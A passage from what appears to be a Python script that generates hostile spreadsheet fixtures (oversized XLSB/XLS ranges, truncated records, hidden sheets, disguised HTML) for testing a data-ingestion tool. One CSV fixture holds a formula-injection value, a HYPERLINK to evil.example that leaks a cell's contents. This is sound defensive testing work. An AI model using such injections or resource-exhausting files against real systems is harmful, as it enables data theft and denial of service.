        ("Data", 0, xlsb_sheet(xlsb_row(0, xlsb_real(0, 1), xlsb_real(0xFFFFFFF0, 2)), (0, 0, 0, 0)))])
    # a cell at row 1,000,000, column 16,000 under a one-cell table: 16 billion cells
    out["xlsb_far_row.xlsb"] = write_xlsb(folder / "xlsb_far_row.xlsb", [
        ("Data", 0, xlsb_sheet(xlsb_row(0, xlsb_real(0, 1)) + xlsb_row(1_000_000, xlsb_real(16_000, 1))))])
    out["xlsb_bad_dimension.xlsb"] = write_xlsb(folder / "xlsb_bad_dimension.xlsb", [
        ("Data", 0, xlsb_sheet(XLSB_TABLE, (5, 1, 3, 0)))])
    out["xlsb_cut_record.xlsb"] = write_xlsb(folder / "xlsb_cut_record.xlsb", [
        ("Data", 0, xlsb_sheet(XLSB_TABLE)[:-9] + _varint(0x05) + _varint(4000))])
    # xls: a stray far cell on each of 8 sheets (16.7 million cells each; 6 GB and a minute before)
    put("xls_far_cells.xls", cfb([("Workbook", biff_workbook(
        [(f"Sheet{i + 1}", biff_label_table() + biff_number(65535, 255, 1)) for i in range(8)]))]))
    # xls: a good table with a hidden row (ROW record, fDyZero) holding a number
    hidden_row = biff(0x0208, struct.pack("<HHHHHHHH", 2, 0, 2, 255, 0, 0, 0x0020 | 0x0100, 0x0F))
    put("xls_hidden_row.xls", cfb([("Workbook", biff_workbook([("Data", biff_label_table() + hidden_row + biff(
        0x0204, struct.pack("<HHHHB", 2, 0, 0, 12, 0) + b"Essex Police") + biff_number(2, 1, 7))]))]))
    # xls: a shared-strings table claiming two billion strings (calamine reserves before reading)
    sst = biff(0x00FC, struct.pack("<Ii", 1, 0x7FFFFFF0) + struct.pack("<HB", 1, 0) + b"A")
    put("xls_sst_count.xls", cfb([("Workbook", biff_workbook([("Data", biff_label_table())], globals_extra=sst))]))
    # text: only NUL bytes (a 2 GB one took 4 GB before it was refused; 1 MB shows the rule)
    put("nul_only.csv", bytes(1024 * 1024))
    # HTML saved as .xls in the forms seen: a <style> first, a <div>, a comment, BOM and blank lines, UTF-16
    table = "<table><tr><td>Force</td><td>2023</td></tr><tr><td>Kent</td><td>150</td></tr></table>"
    put("html_style.xls", "<style>td { mso-number-format: General }</style>\n" + table)
    put("html_div.xls", "<div>\n  " + table + "\n</div>")
    put("html_comment.xls", "<!-- exported by the records system -->\r\n" + table)
    put("html_pretty.xls", "\ufeff\r\n\r\n    <table border=1>\n      <tr>\n        <td>Force</td>\n      </tr>\n    </table>\n")
    put("html_utf16.xls", "\ufeff<div>" + table + "</div>", "utf-16-le")
    # hidden content: a hidden row and column with values, a hidden and a very hidden sheet,
    # a named range and a pivot cache part
    rows = (
        _row(1, _text("A1", "Force"), _text("B1", "2022/23"), _text("D1", "Officer"))
        + _row(2, _text("A2", "Kent Police"), _num("B2", 10), _num("D2", 99))
        + _row(3, _text("A3", "Essex Police"), _num("B3", 20))
        + '<row r="4" hidden="1">' + _text("A4", "Surrey Police") + _num("B4", 5) + "</row>"
    )
    visible = sheet_xml(rows).replace("<sheetData>", '<cols><col min="4" max="4" hidden="1" width="9"/></cols><sheetData>')
    parts = xlsx_parts([("Data", visible), ("Names", sheet_xml(_row(1, _text("A1", "PC Smith"), _num("B1", 4321)))),
                        ("Key", sheet_xml(_row(1, _text("A1", "x"), _num("B1", 1))))])
    parts["xl/workbook.xml"] = (
        parts["xl/workbook.xml"]
        .replace('<sheet name="Names" sheetId="2"', '<sheet name="Names" state="hidden" sheetId="2"')
        .replace('<sheet name="Key" sheetId="3"', '<sheet name="Key" state="veryHidden" sheetId="3"')
        .replace("</sheets>", '</sheets><definedNames><definedName name="Officers">Names!$A$1:$B$1</definedName>'
                 '<definedName name="_xlnm.Print_Area" localSheetId="0">Data!$A$1:$B$4</definedName></definedNames>')
    )
    parts["xl/pivotCache/pivotCacheDefinition1.xml"] = '<pivotCacheDefinition xmlns="%s"/>' % MAIN_NS
    out["hidden.xlsx"] = write_zip(folder / "hidden.xlsx", parts)
    out["hidden.ods"] = ods(
        folder / "hidden.ods",
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Force</text:p></table:table-cell>'
        '<table:table-cell office:value-type="string"><text:p>2022/23</text:p></table:table-cell></table:table-row>'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Kent Police</text:p></table:table-cell>'
        + ods_cell(10) + "</table:table-row>"
        '<table:table-row table:visibility="collapse"><table:table-cell office:value-type="string">'
        "<text:p>Essex Police</text:p></table:table-cell>" + ods_cell(7) + "</table:table-row>",
    )
    # a tidy dataset given back, hand-edited: a formula where a force should be
    put("tidy_edited.csv",
        "force,force_code,area_kind,measure,period_start,period_end,period_label,value,status,value_low,value_high,"
        "source_file,source_sheet,source_cell,note\n"
        "Kent Police,E23000032,force,Arrests,2022-04-01,2023-03-31,2022/23,10,ok,,,a.xlsx,Data,B2,\n"
        '"=HYPERLINK(""http://evil.example/?""&A1,""Essex"")",,force,Arrests,2022-04-01,2023-03-31,2022/23,20,ok,,,a.xlsx,Data,B3,\n')
    return out


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/make_hostile.py FOLDER")
    for fixture, where in sorted(build(Path(sys.argv[1])).items()):
        print(f"{fixture:28} {where.stat().st_size:>10,} bytes")
